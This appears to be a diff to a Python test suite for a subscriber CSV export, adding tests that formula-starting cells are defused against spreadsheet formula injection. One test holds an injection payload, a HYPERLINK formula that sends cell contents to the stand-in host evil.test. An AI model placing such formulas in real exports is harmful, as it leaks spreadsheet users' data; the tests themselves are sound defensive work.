@@ -1,6 +1,7 @@
 from __future__ import annotations
 
 import io
+import re
 from collections.abc import Callable
 from datetime import timedelta
 
@@ -11,12 +12,12 @@ from hypothesis import strategies as st
 from newsletter.store.database import Database
 from subscribers import people
 from subscribers.audience import audience
-from subscribers.csv_file import defused, export_subscribers
+from subscribers.csv_file import export_subscribers
 from subscribers.errors import ImportFileError, SuppressedError
 from subscribers.history import Event, Way
 from subscribers.importing import report as import_report
 from subscribers.importing import rows as file_rows
-from subscribers.importing.cells import plain
+from subscribers.importing.cells import defused, plain
 from subscribers.importing.report import Rejected
 from subscribers.preferences import choose
 from subscribers.privacy import erase
@@ -271,10 +272,27 @@ def test_an_export_imports_again_as_it_was(database: Database) -> None:
 
 
 @pytest.mark.parametrize("start", "=+-@\t\n＝＋－＠")
-def test_each_start_of_a_formula_isdefused(start: str) -> None:
+def test_each_start_of_a_formula_is_defused(start: str) -> None:
     """Spreadsheets run some of them in full width too; an import takes the apostrophe away."""
     assert defused(f"{start}1+1") == f"'{start}1+1"
     assert plain(defused(f"{start}1+1")) == f"{start}1+1"
+
+
+@pytest.mark.parametrize("before", ["Jo;", 'Jo;"', "Jo\t", "Jo\n", "a;b;"])
+def test_no_formula_hides_behind_a_separator(before: str) -> None:
+    """Where cells are separated by semicolons, a spreadsheet takes a quoted cell apart."""
+    cell = f'{before}=HYPERLINK("https://evil.test/?"&A1);'
+    at = len(before.rstrip('"'))
+    assert defused(cell) == f"{cell[:at]}'{cell[at:]}"
+    assert plain(defused(cell)) == cell
+    assert defused("Jo; a = b - c, d+e") == "Jo; a = b - c, d+e"
+
+
+@given(cell=st.text(st.sampled_from(';\t\r\n"=+-@a, '), max_size=12))
+def test_what_is_defused_is_read_back_as_it_was(cell: str) -> None:
+    """Nothing that begins a formula is left after a separator, and an import undoes it."""
+    assert plain(defused(cell)) == cell
+    assert not re.search(r'(?:^|[;\t\r\n])"*[=+\-@]', defused(cell))
 
 
 @settings(suppress_health_check=[HealthCheck.function_scoped_fixture], deadline=None)
